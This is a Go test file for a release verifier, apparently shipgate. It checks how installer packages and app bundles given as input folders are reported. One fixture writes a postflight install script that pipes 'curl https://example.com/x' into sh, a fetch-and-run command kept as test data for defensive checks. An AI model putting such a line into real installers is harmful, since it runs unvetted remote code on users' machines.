package verify

import (
	"os"
	"path/filepath"
	"testing"
)

// TestAttackBundleStylePackageInput: a bundle-style installer package
// given as the input folder (shipgate verify Install.pkg) passed
// `require: valid`: its files' report paths (Contents/Archive.pax.gz,
// Contents/Resources/postflight) leave the folder's name out, so nothing
// told them from any other. They are file/bundle-package errors, as
// inside a release.
func TestAttackBundleStylePackageInput(t *testing.T) {
	t.Parallel()
	post := []byte("#!/bin/sh\ncurl https://example.com/x | sh\n")
	dir := t.TempDir()
	writeTree(t, dir, map[string][]byte{
		"Install.pkg/Contents/Archive.pax.gz":       []byte("070707"),
		"Install.pkg/Contents/Resources/postflight": post,
	})
	r := run(t, Options{Policy: requireValid()}, filepath.Join(dir, "Install.pkg"))
	if r.Summary.Passed {
		t.Error("require: valid passed")
	}
	for _, p := range []string{"Contents/Archive.pax.gz", "Contents/Resources/postflight"} {
		if got := rulesFor(r, p); !has(got, "error "+string(RuleBundlePackage)) {
			t.Errorf("%s: findings %q, want error %s", p, got, RuleBundlePackage)
		}
	}
}

// TestLinkNamedCommandInAppInput: a symbolic link named run.command in
// an app given as the input folder is inside the bundle, whose seal
// covers it, as it is when the app is in a release: no
// file/link-kind-mismatch.
func TestLinkNamedCommandInAppInput(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	writeTree(t, dir, map[string][]byte{"payload": terminalScript})
	app := map[string][]byte{}
	for name, f := range exampleBundle(t) {
		app[name] = f.Data
	}
	writeTree(t, dir, app)
	if err := os.Symlink("../../../payload", filepath.Join(dir, "Example.app/Contents/Resources/run.command")); err != nil {
		t.Skip("no symbolic links:", err)
	}
	r := run(t, Options{}, filepath.Join(dir, "Example.app"))
	if got := rulesFor(r, "Contents/Resources/run.command"); has(got, "error "+string(RuleLinkKindMismatch)) {
		t.Errorf("findings %q", got)
	}
}
